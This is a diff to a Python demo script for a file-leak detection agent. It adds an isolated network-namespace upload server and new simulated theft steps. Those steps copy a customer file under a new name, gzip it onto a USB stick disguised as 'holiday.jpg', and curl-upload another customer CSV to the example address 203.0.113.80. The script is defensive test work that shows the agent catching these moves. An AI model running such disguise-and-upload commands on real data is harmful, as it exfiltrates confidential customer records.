@@ -5,7 +5,8 @@ the collector's API is asked whether every expected event arrived (exit 1 and wh
 one scratch directory, which is removed, and mounts are undone, also after Ctrl-C.
 
 With root the stick is an ext4 image on a loop device and fanotify watches; without, a plain folder and inotify, which
-names no process and no person. The demo says which.
+names no process and no person. The demo says which. The upload goes to a server in a network namespace, from another one: the
+machine's own network is not touched, and nothing leaves it.
 """
 
 import argparse
@@ -107,6 +108,12 @@ class Person:
         with suppress(OSError):
             Path("/proc/self/loginuid").write_text(str(self.uid))
 
+    def instead_of_root(self) -> list[str]:
+        """A command's first words that run it as this person."""
+        if not self.account:
+            return []
+        return ["setpriv", f"--reuid={self.account.pw_uid}", f"--regid={self.account.pw_gid}", "--init-groups"]
+
     def log_in_and_drop_root(self) -> None:
         """As `log_in`, then become that user."""
         self.log_in()
@@ -150,6 +157,7 @@ class House:
     def __init__(self, scratch: Path) -> None:
         self.scratch = scratch
         self.customers = scratch / "srv" / "customers"
+        self.home = scratch / "home" / "somebody"
         self.media = scratch / "media"
         self.state = scratch / "state"
         self.collector_toml, self.agent_toml = scratch / "collector.toml", scratch / "agent.toml"
@@ -185,6 +193,8 @@ class House:
         """Start collector, agent and tail; returns once the agent watches."""
         make_customers(self.customers)
         self.media.mkdir()
+        self.home.mkdir(parents=True)
+        self.home.chmod(0o777)
         listen = self.url.removeprefix("http://")
         self.collector_toml.write_text(
             f'[collector]\nlisten = "{listen}"\nstate_dir = {json.dumps(str(self.scratch / "collector"))}\n'
@@ -282,6 +292,69 @@ class House:
             time.sleep(0.05)
 
 
+class Elsewhere:
+    """Two network namespaces joined by a cable: in one sits whoever uploads, in the other a web server that takes all.
+
+    They live as long as the two processes that hold them, and these end with us, whatever happens: their input ends then.
+    """
+
+    ADDRESS = "203.0.113.80"  # reserved for examples (RFC 5737)
+    NEAR = "import sys; print(flush=True); sys.stdin.read()"
+    FAR = """
+import http.server, sys, threading
+class Take(http.server.BaseHTTPRequestHandler):
+    def do_PUT(self):
+        self.rfile.read(int(self.headers["Content-Length"]))
+        self.send_response(201)
+        self.end_headers()
+threading.Thread(target=http.server.HTTPServer(("", 80), Take).serve_forever, daemon=True).start()
+print(flush=True)
+sys.stdin.read()
+"""
+
+    def __init__(self) -> None:
+        self.held: list[subprocess.Popen[str]] = []
+        self.prefix: list[str] = []
+
+    def open(self) -> None:
+        """Raises Missing, saying what this machine lacks."""
+        for program in ("ip", "curl", "unshare", "nsenter", "setpriv"):
+            if not shutil.which(program):
+                raise Missing(f"{program} is not installed")
+        near, far = self._hold(self.NEAR), self._hold(self.FAR)
+        for where, command in (
+            (near, f"link add cable type veth peer name cable netns {far.pid}"),
+            (near, "addr add 203.0.113.7/24 dev cable"),
+            (near, "link set cable up"),
+            (far, f"addr add {self.ADDRESS}/24 dev cable"),
+            (far, "link set cable up"),
+        ):
+            done = subprocess.run([*self._inside(where), "ip", *command.split()], capture_output=True, text=True)
+            if done.returncode:
+                raise Missing(done.stderr.strip())
+        self.prefix = self._inside(near)
+
+    def close(self) -> None:
+        for process in self.held:
+            process.kill()
+            process.communicate()
+
+    @staticmethod
+    def _inside(process: "subprocess.Popen[str]") -> list[str]:
+        return ["nsenter", f"--net=/proc/{process.pid}/ns/net"]
+
+    def _hold(self, program: str) -> "subprocess.Popen[str]":
+        """A Python program in a network namespace of its own, until its input ends; returns once it has printed a line."""
+        words = ["unshare", "-n", sys.executable, "-c", program]
+        pipe = subprocess.PIPE
+        process = subprocess.Popen(words, stdin=pipe, stdout=pipe, stderr=pipe, text=True)
+        self.held.append(process)
+        assert process.stdout is not None and process.stderr is not None
+        if not process.stdout.readline():
+            raise Missing(process.stderr.read().strip())
+        return process
+
+
 # -- the story ---------------------------------------------------------------------------------------------------------
 
 
@@ -317,12 +390,15 @@ class Story:
             return
         say(paint(f"  ({time.monotonic() - done:.1f} s after the command ended)", "2"))
 
-    def shell(self, command: str, as_root: bool = False) -> None:
-        """Show a shell command and run it as the person at the keyboard."""
+    def shell(self, command: str, as_root: bool = False, inside: "Elsewhere | None" = None) -> None:
+        """Show a shell command and run it as the person at the keyboard, `inside` a network namespace or here."""
         say(f"{paint('#' if as_root else '$', '2')} {paint(command, '1')}")
         before_exec = self.person.log_in if as_root else self.person.log_in_and_drop_root
-        environment = self.environment | {"STICK": str(self.house.media / "stick")}
+        environment = self.environment | {"STICK": str(self.house.media / "stick"), "HOME": str(self.house.home)}
         words = ["bash", "-c", command]
+        if inside:  # entering a network namespace takes root: only then does the person take over
+            before_exec = self.person.log_in
+            words = [*inside.prefix, *self.person.instead_of_root(), *words]
         done = subprocess.run(
             words, env=environment, cwd="/", preexec_fn=before_exec, capture_output=True, text=True, timeout=60
         )
@@ -350,6 +426,7 @@ class Story:
     def tell(self) -> None:
         """The whole story."""
         out = {"file__copied_out": 3}
+        left = {"file__copied_out": 1, "copy__staged": 1}
         plugged = {"medium__attached": 1, "medium__mounted": 1, "medium__unapproved": 1}
         with self.expecting("A stick is plugged in that nobody approved.", **plugged):
             self.plug()
@@ -367,8 +444,26 @@ class Story:
                 self.shell("cp -r $C/orders $STICK/")
             if self.house.collapsed > 3:
                 say(paint(f"  (… and {self.house.collapsed - 3} more lines like these three)", "2"))
+            with self.expecting("A copy is made elsewhere on the machine, under another name.", file__staged=1):
+                self.shell("cp $C/2014-05.csv ~/notes.txt")
+            with self.expecting("Later another program carries it out, packed: it is still the protected file.", **left):
+                self.shell("gzip -c ~/notes.txt > $STICK/holiday.jpg")
+            self.upload()
         with self.expecting("The stick is pulled.", medium__detached=1):
             self.house.run("sekisho-agent", "sim", "unplug", "stick", show=True)
+
+    def upload(self) -> None:
+        """A file goes to a server by the network, if this machine can hold one without being touched."""
+        elsewhere = Elsewhere()
+        try:
+            elsewhere.open()
+        except Missing as error:
+            say(paint(f"\n(No upload is shown: {error}.)", "2"))
+        else:
+            with self.expecting("One is uploaded: no medium at all.", file__copied_out=1):
+                self.shell(f"curl -sT $C/2014-04.csv http://{elsewhere.ADDRESS}/", inside=elsewhere)
+        finally:
+            elsewhere.close()
 
     def summary(self) -> None:
         """What an admin would ask next."""
